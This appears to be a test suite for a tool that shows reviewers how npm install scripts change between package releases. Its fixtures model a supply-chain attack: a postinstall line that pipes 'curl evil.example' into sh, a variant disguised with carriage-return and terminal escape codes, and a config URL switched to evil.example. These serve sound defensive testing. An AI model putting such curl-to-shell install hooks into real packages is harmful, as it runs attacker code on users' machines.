import assert from 'node:assert/strict';

import {computeFingerprint, type PackageFiles} from '../../sources/installScripts/policy/fingerprint';
import {hashBytes} from '../../sources/installScripts/policy/fingerprint/records';
import {diffInstallCode, renderInstallDiff, type DiffSide} from '../../sources/installScripts/policy/installDiff';

/** A release as the diff sees it: its manifest, its files, and the fingerprint the gate computes for it. */
function release(label: string, manifest: Record<string, unknown>, files: Record<string, string | Buffer>): DiffSide {
  const bytes = new Map(Object.entries(files).map(([path, content]) => [path, Buffer.isBuffer(content) ? content : Buffer.from(content)]));
  bytes.set(`package.json`, Buffer.from(JSON.stringify(manifest)));
  const packageFiles: PackageFiles = {read: path => bytes.get(path) ?? null};
  const scripts = manifest.scripts as Record<string, string>;
  const fingerprint = computeFingerprint({commands: {postinstall: scripts.postinstall}, manifestScripts: scripts, manifest, files: packageFiles});
  return {label, scripts: fingerprint.scripts, files: fingerprint.files, release: {read: path => bytes.get(path) ?? null, manifest}};
}

const MANIFEST = {name: `esb`, version: `1.0.0`, scripts: {postinstall: `node install.js`}};
const INSTALL_V1 = `const lib = require('./lib.js');\nlib.fetchBinary();\nconsole.log('done');\n`;
const INSTALL_V2 = `const lib = require('./lib.js');\nlib.fetchBinary();\nrequire('child_process').execSync('curl evil.example | sh');\nconsole.log('done');\n`;
const LIB = `exports.fetchBinary = () => {};\n`;

function texts(side: DiffSide | null, after: DiffSide) {
  return renderInstallDiff(diffInstallCode(side, after), side?.label ?? null, after.label).map(line => line.text);
}

describe(`the install-code diff`, () => {
  it(`shows a changed file as a unified diff hunk, and leaves unchanged files out`, () => {
    const before = release(`esb@1.0.0`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB});
    const after = release(`esb@1.1.0`, {...MANIFEST, version: `1.1.0`}, {[`install.js`]: INSTALL_V2, [`lib.js`]: LIB});
    const diff = diffInstallCode(before, after);
    assert.deepEqual(diff.entries.map(entry => [entry.key, entry.status, entry.body.kind]), [[`install.js`, `changed`, `text`]]);
    assert.ok(diff.unchanged.includes(`lib.js`));
    assert.deepEqual(texts(before, after), [
      `--- esb@1.0.0/install.js`,
      `+++ esb@1.1.0/install.js`,
      `@@ -1,3 +1,4 @@`,
      ` const lib = require('./lib.js');`,
      ` lib.fetchBinary();`,
      `+require('child_process').execSync('curl evil.example | sh');`,
      ` console.log('done');`,
    ]);
  });

  it(`shows changed commands, and a new file that a new command runs as added`, () => {
    const before = release(`esb@1.0.0`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB});
    const after = release(`esb@2.0.0`, {...MANIFEST, scripts: {postinstall: `node setup.js`}}, {[`setup.js`]: `run();\n`});
    const lines = texts(before, after);
    assert.deepEqual(lines.slice(0, 4), [
      `--- esb@1.0.0 (install scripts)`,
      `+++ esb@2.0.0 (install scripts)`,
      `-postinstall: node install.js`,
      `+postinstall: node setup.js`,
    ]);
    assert.ok(lines.includes(`--- /dev/null`) && lines.includes(`+++ esb@2.0.0/setup.js`) && lines.includes(`+run();`), lines.join(`\n`));
    assert.ok(lines.includes(`--- esb@1.0.0/install.js`) && lines.includes(`+++ /dev/null`), lines.join(`\n`));
  });

  it(`shows manifest data that install code reads as indented JSON`, () => {
    const manifest = {...MANIFEST, scripts: {postinstall: `node install.js`}, config: {url: `https://good.example`}};
    const reads = `const cfg = require('./package.json').config;\n`;
    const before = release(`esb@1.0.0`, manifest, {[`install.js`]: reads});
    const after = release(`esb@1.0.1`, {...manifest, config: {url: `https://evil.example`}}, {[`install.js`]: reads});
    const lines = texts(before, after);
    assert.ok(lines.includes(`-    "url": "https://good.example"`), lines.join(`\n`));
    assert.ok(lines.includes(`+    "url": "https://evil.example"`), lines.join(`\n`));
  });

  it(`names files that are not UTF-8 text with their hashes instead of dumping them`, () => {
    const withBinary = {...MANIFEST, scripts: {postinstall: `node install.js && ./tool`}};
    const before = release(`esb@1.0.0`, withBinary, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB, tool: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff, 1])});
    const after = release(`esb@1.0.1`, withBinary, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB, tool: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff, 2])});
    const lines = texts(before, after);
    assert.deepEqual(lines, [`Binary tool changed: ${before.files.tool} → ${after.files.tool}`]);
  });

  it(`shows what a terminal would hide or overwrite as escapes: a carriage return, ESC sequences, a NUL byte`, () => {
    const before = release(`esb@1.0.0`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB});
    const hidden = `const lib = require('./lib.js');\nlib.prepare();\nrequire('child_process').exec('curl evil.example')\r+console.log("setup done")\u001b[1A\u0000;\n`;
    const after = release(`esb@1.0.1`, MANIFEST, {[`install.js`]: hidden, [`lib.js`]: LIB});
    const lines = texts(before, after);
    assert.ok(lines.includes(`+require('child_process').exec('curl evil.example')\\r+console.log("setup done")\\e[1A\\0;`), lines.join(`\n`));
    assert.ok(lines.every(line => !/[\r\u001b\u0000]/.test(line)));
  });

  it(`names files over the size limit with their hashes`, () => {
    const big = `x`.repeat(2000);
    const before = release(`esb@1.0.0`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: big});
    const after = release(`esb@1.0.1`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: `${big}y`});
    const diff = diffInstallCode(before, after, {maxBytes: 1000});
    assert.deepEqual(diff.entries.map(entry => entry.body), [{kind: `too-large`, bytes: 2001}]);
  });

  it(`never shows bytes that are not the ones the approval recorded`, () => {
    const approved = release(`esb@1.0.0`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB});
    // The archive read for the approved release holds other bytes than were approved (a patched or republished release).
    const substituted: DiffSide = {...approved, release: {manifest: MANIFEST, read: path => path === `install.js` ? Buffer.from(`harmless();\n`) : Buffer.from(LIB)}};
    const after = release(`esb@1.1.0`, MANIFEST, {[`install.js`]: INSTALL_V2, [`lib.js`]: LIB});
    const [entry] = diffInstallCode(substituted, after).entries;
    assert.equal(entry.body.kind, `unavailable`);
    assert.match((entry.body as {why: string}).why, /install\.js in esb@1\.0\.0 is not the file that was recorded/);
    assert.ok(!texts(substituted, after).some(line => line.includes(`harmless`)));
  });

  it(`names every entry of a side whose files could not be read, with hashes`, () => {
    const approved: DiffSide = {...release(`esb@1.0.0`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB}), release: null, unavailable: `the registry is down`};
    const after = release(`esb@1.1.0`, MANIFEST, {[`install.js`]: INSTALL_V2, [`lib.js`]: LIB});
    assert.deepEqual(texts(approved, after), [
      `install.js changed, not shown: the files of esb@1.0.0 could not be read: the registry is down (${hashBytes(INSTALL_V1)} → ${hashBytes(INSTALL_V2)})`,
    ]);
  });

  it(`shows everything as added when there is nothing to compare with`, () => {
    const after = release(`esb@1.0.0`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB});
    const lines = texts(null, after);
    assert.equal(lines.filter(line => line === `--- /dev/null`).length, 3, lines.join(`\n`));
    assert.ok(lines.includes(`+postinstall: node install.js`));
    assert.ok(lines.includes(`+exports.fetchBinary = () => {};`));
  });

  it(`says which PATH entries changed without claiming to know their bytes`, () => {
    const before: DiffSide = {label: `a@1.0.0`, scripts: {postinstall: `tool`}, files: {[`PATH#tool`]: `sha512-AAAA`}, release: null};
    const after: DiffSide = {label: `a@1.0.1`, scripts: {postinstall: `tool`}, files: {[`PATH#tool`]: `sha512-BBBB`}, release: null};
    assert.deepEqual(texts(before, after), [`tool on the PATH of the install scripts: now provided by another package or file (sha512-AAAA → sha512-BBBB)`]);
  });
});
